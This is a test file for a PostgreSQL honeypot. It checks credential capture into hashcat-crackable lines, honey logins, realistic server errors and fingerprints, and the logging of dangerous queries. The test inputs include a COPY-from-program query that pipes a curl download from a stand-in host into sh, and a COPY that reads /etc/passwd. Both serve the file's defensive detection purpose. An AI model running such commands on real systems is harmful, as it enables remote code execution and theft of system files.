import {createHash} from 'node:crypto'
import {describe, expect, it} from 'vitest'

import {verifyScram} from '../../../../src/decoy/codecs/credentials/scram.ts'
import {POSTGRES_PORT} from '../../../../src/decoy/services/postgres/definition.ts'
import {
  connectTo,
  errorOf,
  inside,
  message,
  messagesIn,
  postgresService,
  query,
  rowsOf,
  sasl,
  scramProof,
  startup,
  TLS_REQUEST,
} from './client.ts'

const md5 = (...parts: (string | Buffer)[]): string => {
  const hash = createHash('md5')
  for (const part of parts) hash.update(part)
  return hash.digest('hex')
}

describe('logging in', () => {
  it('leaves a line of hashcat 11100 from which the password follows', async () => {
    const client = connectTo(await postgresService({auth: 'md5'}))
    const salt = client.send(startup({user: 'postgres'})).written.subarray(9)
    const proof = md5(md5('hunter2postgres'), salt)
    expect(errorOf(client.send(message('p', `md5${proof}\0`)).written)).toBe(
      '28P01 password authentication failed for user "postgres"',
    )
    const hash = client.events[0]?.credential?.hash
    expect(hash).toMatchObject({hashcatMode: 11_100, line: `$postgres$postgres*${salt.toString('hex')}*${proof}`})
  })

  it('lets honey users in by md5', async () => {
    const client = connectTo(await postgresService({auth: 'md5'}))
    const salt = client.send(startup({user: 'app', database: 'postgres'})).written.subarray(9)
    const {written} = client.send(message('p', `md5${md5(md5('secretapp'), salt)}\0`))
    expect(messagesIn(written).at(-1)?.kind).toBe('Z')
    expect(client.events[0]?.credential?.outcome).toBe('success')
  })

  it('gets the password where it asks for it', async () => {
    const client = connectTo(await postgresService({auth: 'password'}))
    client.send(startup({user: 'postgres'}))
    client.send(message('p', 'hunter2\0'))
    expect(client.events[0]?.credential).toMatchObject({
      principal: 'postgres',
      method: 'password',
      secret: {text: 'hunter2'},
      outcome: 'failure',
    })
  })

  const exchange = async (user: string, password: string) => {
    const client = connectTo(await postgresService())
    client.send(startup({user, database: 'postgres'}))
    const serverFirst = client.send(sasl('n,,n=,r=fyko')).written.subarray(9).toString()
    const proof = scramProof(password, 'n=,r=fyko', serverFirst)
    return {client, serverFirst, proof, written: client.send(message('p', proof.final)).written}
  }

  it('proves itself to a honey user by SCRAM', async () => {
    const {written, proof} = await exchange('app', 'secret')
    const [final, ok] = messagesIn(written)
    expect(final?.body.subarray(4).toString()).toBe(proof.signature)
    expect(ok?.body.readUInt32BE()).toBe(0)
  })

  it('refuses a wrong proof, and keeps all that is needed to guess the password', async () => {
    const {written, client, serverFirst} = await exchange('app', 'hunter2')
    expect(errorOf(written)).toBe('28P01 password authentication failed for user "app"')
    const line = client.events[0]?.credential?.hash?.line ?? ''
    const [, , , user = '', iterations = '', salt = '', auth = '', proof = ''] = line.split('$')
    const decoded = {
      hash: 'SHA-256' as const,
      user: Buffer.from(user, 'base64').toString(),
      iterations: Number(iterations),
      salt: Buffer.from(salt, 'base64'),
      authMessage: Buffer.from(auth, 'base64').toString(),
      proof: Buffer.from(proof, 'base64'),
    }
    expect(decoded.authMessage).toContain(serverFirst)
    expect(verifyScram(decoded, 'hunter2')).toBe(true)
    expect(verifyScram(decoded, 'hunter3')).toBe(false)
  })

  it('gives unknown users a salt of their own that does not change', async () => {
    const saltOf = (serverFirst: string) => /s=([^,]+)/.exec(serverFirst)?.[1]
    const [one, again, other] = await Promise.all(['bob', 'bob', 'eve'].map((user) => exchange(user, 'x')))
    expect(saltOf(one?.serverFirst ?? '')).toBe(saltOf(again?.serverFirst ?? ''))
    expect(saltOf(one?.serverFirst ?? '')).not.toBe(saltOf(other?.serverFirst ?? ''))
  })

  it('refuses a nonce that is not its own', async () => {
    const client = connectTo(await postgresService())
    client.send(startup({user: 'app'}))
    client.send(sasl('n,,n=,r=fyko'))
    const {written} = client.send(message('p', `c=biws,r=fykoX,p=${Buffer.alloc(32).toString('base64')}`))
    expect(errorOf(written)).toBe('08P01 invalid SCRAM response')
  })

  it('refuses clients in clear where TLS is required', async () => {
    const client = connectTo(await postgresService({tls: 'required'}))
    expect(errorOf(client.send(startup({user: 'app', database: 'x'})).written)).toBe(
      '28000 no pg_hba.conf entry for host "192.168.1.77", user "app", database "x", no encryption',
    )
  })

  it('starts TLS when it is asked to', async () => {
    const client = connectTo(await postgresService())
    const {written, last} = client.send(TLS_REQUEST)
    expect(written.toString()).toBe('S')
    expect(last).toBe('upgrade')
  })

  it('knows its databases only after the login', async () => {
    const client = connectTo(await postgresService({auth: 'password'}))
    expect(errorOf(client.send(startup({user: 'app', database: 'nope'})).written)).toBeNull()
    expect(errorOf(client.send(message('p', 'secret\0')).written)).toBe('3D000 database "nope" does not exist')
  })
})

describe('inside', () => {
  const bait = async () => {
    const client = await inside()
    const names = rowsOf(client.send(query('select datname from pg_database')).written).flat()
    return inside(names[1] ?? '')
  }

  it('records every query, and says which are more than questions', async () => {
    const client = await inside()
    client.send(query("copy x from program 'curl evil | sh'"))
    client.send(message('P', 's\0select 2\0\0\0'))
    expect(client.events.slice(-2)).toMatchObject([
      {event: 'query', data: {dangerous: true, prepared: false}},
      {event: 'query', data: {prepared: true, query: {text: 'select 2'}}},
    ])
  })

  it('answers with rows, conditions and order', async () => {
    const client = await bait()
    const rows = (sql: string) => rowsOf(client.send(query(sql)).written)
    expect(rows('select username from users where id = 1')).toEqual([['admin']])
    expect(rows('select table_name from information_schema.tables order by 1 desc limit 2')).toEqual([
      ['users'],
      ['settings'],
    ])
    expect(rows("select 7/2, 7/2.5, null, true, 'a'||'b'")).toEqual([['3', '2.8', null, 't', 'ab']])
    expect(rows('select count(*) from users where id > 1 and id <= 3')).toEqual([['2']])
  })

  it.each([
    ['select 1/0', '22012 division by zero'],
    ['delete from users', '42501 permission denied for table users'],
    ['drop table users', '42501 must be owner of table users'],
    ['drop table nope', '42P01 table "nope" does not exist'],
    [
      "copy users from '/etc/passwd'",
      '42501 must be superuser or have privileges of the pg_read_server_files role to COPY from a file',
    ],
    ['select * from users u join orders o on true', '57014 canceling statement due to statement timeout'],
    ['alter system set x = 1', '42501 permission denied to set parameter "x"'],
    ['create role x', '42501 permission denied to create role'],
  ])('answers %j as the server does', async (sql, error) => {
    expect(errorOf((await bait()).send(query(sql)).written)).toBe(error)
  })

  it('ignores what follows an error in a transaction', async () => {
    const client = await inside()
    expect(client.send(query('begin; selec')).written.at(-1)).toBe('E'.charCodeAt(0))
    expect(errorOf(client.send(query('select 1')).written)).toMatch(/^25P02 /)
    expect(messagesIn(client.send(query('commit')).written)[0]?.body.toString()).toBe('ROLLBACK\0')
  })

  it('binds parameters, and suspends a portal', async () => {
    const client = await bait()
    const bind = Buffer.concat([Buffer.from('\0s\0\0\0\0\x01\0\0\0\x01'), Buffer.from('1'), Buffer.from('\0\0')])
    const {written} = client.send(
      Buffer.concat([
        message('P', 's\0select username from users where id >= $1\0\0\0'),
        message('B', bind),
        message('E', '\0\0\0\0\x01'),
        message('S'),
      ]),
    )
    expect(
      messagesIn(written)
        .map(({kind}) => kind)
        .join(''),
    ).toBe('12DsZ')
    expect(rowsOf(written)).toEqual([['admin']])
  })

  it('holds what no other decky holds', async () => {
    const dump = async (seed: string) => {
      const client = connectTo(await postgresService({auth: 'password'}, {seed}))
      client.send(startup({user: 'app', database: 'postgres'}))
      client.send(message('p', 'secret\0'))
      const name = rowsOf(client.send(query('select datname from pg_database')).written).flat()[1] ?? ''
      const second = connectTo(await postgresService({auth: 'password'}, {seed}))
      second.send(startup({user: 'app', database: name}))
      second.send(message('p', 'secret\0'))
      return rowsOf(second.send(query('select password_hash from users')).written).flat()
    }
    const [one, two] = [await dump('11'.repeat(32)), await dump('22'.repeat(32))]
    expect(one.length).toBeGreaterThan(5)
    expect(one.filter((hash) => two.includes(hash))).toEqual([])
    expect(await dump('11'.repeat(32))).toEqual(one)
  })
})

describe('releases', () => {
  it.each([
    ['debian', {}, 2222],
    ['ubuntu22', {}, 2138],
    ['debian', {version: '14.5'}, 2138],
    ['debian', {version: '15.0'}, 2194],
  ] as const)('of %s with %j name the line that scanners know', async (distro, options, line) => {
    const {written} = connectTo(await postgresService(options, {distro})).send(startup({user: 'x'}, 0x7_0000))
    expect(written.toString()).toContain(`L${line}\0RProcessStartupPacket`)
  })

  it('names sources as builds for Windows do', async () => {
    const facts = {os: 'windows_server', distro: 'windows2022'} as const
    const {written} = connectTo(await postgresService({}, facts)).send(startup({user: 'x'}, 0x7_0000))
    expect(written.toString()).toContain('F.\\src\\backend\\postmaster\\postmaster.c\0')
  })

  it('answers its self-test, and takes nothing else for an answer', async () => {
    const service = await postgresService()
    const {send, accepts} = service.selfTest(POSTGRES_PORT)
    expect(accepts(connectTo(service).send(send).written)).toBe(true)
    expect(accepts(Buffer.from('HTTP/1.1 400 Bad Request'))).toBe(false)
  })
})
